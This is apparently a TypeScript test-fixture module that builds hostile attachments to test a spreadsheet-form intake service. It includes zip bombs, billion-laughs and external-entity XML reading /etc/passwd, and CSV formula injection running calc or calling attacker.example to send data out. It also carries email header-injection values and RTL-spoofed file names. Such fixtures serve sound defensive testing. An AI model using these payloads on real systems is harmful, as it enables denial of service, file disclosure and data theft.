import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { zipSync } from 'fflate';
import { csvForm, xlsxForm } from '../../src/form/testing/form-builder.js';
import { GOOD_ORGANISATION, GOOD_USERS, type AnswerValue } from '../../src/form/testing/sample-answers.js';
import { replaceParts, understateSize } from '../../src/form/testing/zip-tools.js';
import { PROJECT_ROOT } from '../../src/paths.js';

/** One hostile file, attached to an otherwise ordinary email. */
export interface HostileFile {
  label: string;
  filename: string;
  content: Buffer;
  contentType?: string;
}

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
// The User details input tab: the part the reader must parse (sheet1 is the instructions).
const SHEET = 'xl/worksheets/sheet3.xml';
const fixture = (name: string) => readFileSync(join(PROJECT_ROOT, 'test/fixtures/forms', name));
const zip = (files: Record<string, Uint8Array>, level: 0 | 9 = 9) => Buffer.from(zipSync(files, { level }));

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
).join('')}]>`;
const billionLaughs = (root: string) => `${LAUGHS}<${root}><t>&lol9;</t></${root}>`;
const externalEntity = (root: string) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><${root}>&xxe;</${root}>`;

function millionRowSheet(): Buffer {
  const head = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
  return Buffer.concat([Buffer.from(head), Buffer.from('<row><c><v>1</v></c></row>'.repeat(1_000_000)), Buffer.from('</sheetData></worksheet>')]);
}

function deepXml(depth: number): string {
  return `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${'<sheetData>'.repeat(depth)}${'</sheetData>'.repeat(depth)}</worksheet>`;
}

const users = (rows: AnswerValue[][]) => rows;
// Cells a spreadsheet would run as formulas if a copy were opened (CSV injection, OWASP).
const FORMULA_USERS = users([
  [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    'Natarajan',
    'priya.natarajan@kestrelhart.example.co.uk',
    '07700 900101',
    'Organisation administrator',
    null,
  ],
  ["+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', 'tom.okafor@kestrelhart.example.co.uk', '07700 900102', 'Defence lawyer', null],
  ['-2+3+cmd|" /C calc"!A0', '\t=1+1', 'sian.evans@kestrelhart.example.co.uk', '=1+1', '=DDE("cmd";"/C calc";"!A0")', null],
]);
// Control characters, bidirectional overrides and zero-width characters in names.
const CONTROL_USERS = users([
  ['Pri\u0000ya', 'Nata\u0007rajan', 'priya.natarajan@kestrelhart.example.co.uk', '07700 900101', 'Organisation administrator', null],
  ['\u202Emot', 'Oka\u200Bfor\u202C', 'tom.okafor@kestrelhart.example.co.uk', '07700 900102', 'Defence lawyer', null],
  ['سيان', 'אוונס\u202Dgnp.exe', 'sian.evans@kestrelhart.example.co.uk', '07700 900103', 'Support staff', null],
]);
// Line breaks and header names where a header could be built from an answer.
const INJECTION_USERS = users([
  [
    'Priya\r\nBcc: victim@attacker.example',
    'Natarajan\nX-Injected: yes',
    'priya.natarajan@kestrelhart.example.co.uk\r\nBcc: victim@attacker.example',
    '07700 900101',
    'Organisation administrator',
    null,
  ],
  ['Tom', 'Okafor', 'tom.okafor@kestrelhart.example.co.uk,victim@attacker.example', '07700 900102', 'Defence lawyer', null],
  ['Siân', 'Evans', '"victim@attacker.example"@kestrelhart.example.co.uk', '07700 900103', 'Support staff', null],
]);

/** Hostile files: archive and XML bombs, huge and lying sheets, broken archives, and answers meant to do harm. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const good = await xlsxForm();
  const bigZeros = Buffer.alloc(120 * 1024 * 1024, 0x20);
  const bomb = replaceParts(good, { [SHEET]: bigZeros });
  const csv = csvForm();
  const files: HostileFile[] = [
    { label: 'xlsx zip bomb: 120 MB sheet', filename: 'form.xlsx', content: bomb },
    { label: 'xlsx zip bomb lying about its size', filename: 'form.xlsx', content: understateSize(bomb, SHEET, 1000) },
    { label: 'zip bomb: 120 MB text file', filename: 'forms.zip', content: zip({ 'form.csv': bigZeros }) },
    {
      label: 'zip holding 3,000 files',
      filename: 'forms.zip',
      content: zip(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`f${i}.csv`, Buffer.from('x')]))),
    },
    { label: 'zip in a zip in a zip', filename: 'forms.zip', content: zip({ 'inner.zip': zip({ 'deeper.zip': zip({ 'form.xlsx': good }) }) }) },
    { label: 'zip holding a zip bomb xlsx', filename: 'forms.zip', content: zip({ 'form.xlsx': bomb }, 0) },
    { label: 'billion laughs in shared strings', filename: 'form.xlsx', content: replaceParts(good, { 'xl/sharedStrings.xml': billionLaughs('sst') }) },
    { label: 'billion laughs in the sheet', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: billionLaughs('worksheet') }) },
    { label: 'billion laughs in the workbook', filename: 'form.xlsx', content: replaceParts(good, { 'xl/workbook.xml': billionLaughs('workbook') }) },
    { label: 'billion laughs in content types', filename: 'form.xlsx', content: replaceParts(good, { '[Content_Types].xml': billionLaughs('Types') }) },
    { label: 'external entity in shared strings', filename: 'form.xlsx', content: replaceParts(good, { 'xl/sharedStrings.xml': externalEntity('sst') }) },
    { label: 'external entity in the sheet', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: externalEntity('worksheet') }) },
    { label: 'XML nested 200,000 deep', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: deepXml(200_000) }) },
    { label: '1,000,000-row sheet', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: millionRowSheet() }) },
    { label: '1,000,000-row CSV', filename: 'form.csv', content: Buffer.from('x,\r\n'.repeat(1_000_000)) },
    {
      label: '1,000,000 users in a CSV',
      filename: 'form.csv',
      content: Buffer.concat([csv, Buffer.from('A,B,a@b.example,07700 900101,Defence lawyer,\r\n'.repeat(200_000))]),
    },
    { label: 'password-protected workbook', filename: 'form.xlsx', content: fixture('password-protected.xlsx') },
    { label: 'macro-enabled workbook', filename: 'form.xlsm', content: fixture('macro-enabled.xlsm') },
    { label: 'macro-enabled workbook renamed .xlsx', filename: 'form.xlsx', content: fixture('macro-enabled.xlsm'), contentType: XLSX_TYPE },
    { label: 'vbaProject added to an xlsx', filename: 'form.xlsx', content: replaceParts(good, { 'xl/vbaProject.bin': randomBytes(4096) }) },
    { label: 'old .xls', filename: 'form.xls', content: readFileSync(join(PROJECT_ROOT, 'test/fixtures/forms/libreoffice/good-solicitors.xls')) },
    { label: 'ods named .xlsx', filename: 'form.xlsx', content: readFileSync(join(PROJECT_ROOT, 'test/fixtures/forms/libreoffice/good-solicitors.ods')) },
    { label: 'xlsx named .csv and sent as text/csv', filename: 'form.csv', content: good, contentType: 'text/csv' },
    { label: 'CSV named .xlsx', filename: 'form.xlsx', content: csv, contentType: XLSX_TYPE },
    { label: 'PDF named .xlsx', filename: 'form.xlsx', content: Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n') },
    { label: 'Windows program named .xlsx', filename: 'form.xlsx', content: Buffer.concat([Buffer.from('MZ'), randomBytes(8192)]) },
    {
      label: 'PNG sent as text/csv',
      filename: 'form.csv',
      content: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(2048)]),
      contentType: 'text/csv',
    },
    { label: 'random bytes named .xlsx', filename: 'form.xlsx', content: randomBytes(64 * 1024) },
    { label: 'random bytes named .csv', filename: 'form.csv', content: randomBytes(64 * 1024) },
    {
      label: 'HTML table named .csv',
      filename: 'form.csv',
      content: Buffer.from('<html><body><table><tr><td>=1+1</td></tr></table><script>alert(1)</script></body></html>'),
    },
    { label: 'xlsx with no name, as octet-stream', filename: '', content: good, contentType: 'application/octet-stream' },
    { label: 'xlsx with no name, by its type only', filename: '', content: good, contentType: XLSX_TYPE },
    { label: 'double extension .xlsx.exe', filename: 'form.xlsx.exe', content: good, contentType: XLSX_TYPE },
    { label: 'xlsx sent as application/zip', filename: 'form.xlsx', content: good, contentType: 'application/zip' },
    { label: 'truncated xlsx (10%)', filename: 'form.xlsx', content: good.subarray(0, Math.floor(good.length / 10)) },
    { label: 'truncated xlsx (50%)', filename: 'form.xlsx', content: good.subarray(0, Math.floor(good.length / 2)) },
    { label: 'xlsx without its end record', filename: 'form.xlsx', content: good.subarray(0, good.length - 22) },
    {
      label: 'xlsx with its central directory zeroed',
      filename: 'form.xlsx',
      content: Buffer.concat([good.subarray(0, good.length - 600), Buffer.alloc(600)]),
    },
    { label: 'truncated zip', filename: 'forms.zip', content: zip({ 'form.xlsx': good }).subarray(0, 500) },
    { label: 'xlsx missing its workbook part', filename: 'form.xlsx', content: replaceParts(good, { 'xl/workbook.xml': null }) },
    { label: 'xlsx missing its sheet', filename: 'form.xlsx', content: replaceParts(good, { [SHEET]: null }) },
    { label: 'empty xlsx', filename: 'form.xlsx', content: Buffer.alloc(0) },
    { label: 'empty csv', filename: 'form.csv', content: Buffer.alloc(0) },
    { label: 'empty zip', filename: 'forms.zip', content: zip({}) },
    { label: '12 MB xlsx (over the file limit)', filename: 'form.xlsx', content: Buffer.concat([good, randomBytes(12 * 1024 * 1024)]) },
    { label: 'formula injection in a CSV', filename: 'form.csv', content: csvForm({ users: FORMULA_USERS }) },
    { label: 'formula injection in an xlsx', filename: 'form.xlsx', content: await xlsxForm({ users: FORMULA_USERS }) },
    {
      label: 'formula injection in organisation answers',
      filename: 'form.csv',
      content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: '=cmd|" /C calc"!A0', town: '@SUM(A1:A9)' } }),
    },
    {
      label: 'real formulas in the cells',
      filename: 'form.xlsx',
      content: await xlsxForm({}, (book) => {
        book.worksheets.forEach((sheet) => {
          sheet.getCell('B12').value = { formula: 'WEBSERVICE("http://attacker.example")', result: 'x' };
        });
      }),
    },
    { label: 'control characters and RTL in a CSV', filename: 'form.csv', content: csvForm({ users: CONTROL_USERS }) },
    {
      label: 'control characters and RTL in an xlsx',
      filename: 'form.xlsx',
      // eslint-disable-next-line no-control-regex -- NUL is removed on purpose: an xlsx cell cannot hold it
      content: await xlsxForm({ users: CONTROL_USERS.map((row) => row.map((v) => (typeof v === 'string' ? v.replace(/\u0000/g, '') : v))) }),
    },
    {
      label: 'RTL organisation name',
      filename: 'form.csv',
      content: csvForm({ organisation: { ...GOOD_ORGANISATION, organisationName: '\u202Eyrotcaf\u202C محاماة', adminName: 'אבי\u0008 כהן' } }),
    },
    { label: 'header injection in user answers (CSV)', filename: 'form.csv', content: csvForm({ users: INJECTION_USERS }) },
    { label: 'header injection in user answers (xlsx)', filename: 'form.xlsx', content: await xlsxForm({ users: INJECTION_USERS }) },
    {
      label: 'header injection in organisation answers',
      filename: 'form.csv',
      content: csvForm({
        organisation: {
          ...GOOD_ORGANISATION,
          organisationName: 'Firm\r\nBcc: victim@attacker.example',
          email: 'office@firm.example\r\nBcc: victim@attacker.example',
          adminEmail: 'a@b.example\nTo: victim@attacker.example',
        },
      }),
    },
    { label: 'RTL override in the file name', filename: 'form\u202Exslx.exe', content: good, contentType: XLSX_TYPE },
    { label: 'line break in the file name', filename: 'form\r\nBcc: victim@attacker.example.xlsx', content: good },
    {
      label: '3,000 users in a valid-looking workbook',
      filename: 'form.csv',
      content: csvForm({
        users: Array.from({ length: 3000 }, (_, i) => [`F${i}`, `L${i}`, `u${i}@firm.example.co.uk`, '07700 900101', 'Defence lawyer', null]),
      }),
    },
    { label: 'users tab only header', filename: 'form.csv', content: csvForm({ users: [] }) },
    { label: 'a good form beside the hostile ones', filename: 'form.xlsx', content: good },
    {
      label: 'good users, 2,000-character cells',
      filename: 'form.csv',
      content: csvForm({ users: GOOD_USERS.map((row) => row.map((v, i) => (i === 5 ? 'x'.repeat(5000) : v))) }),
    },
  ];
  return files;
}
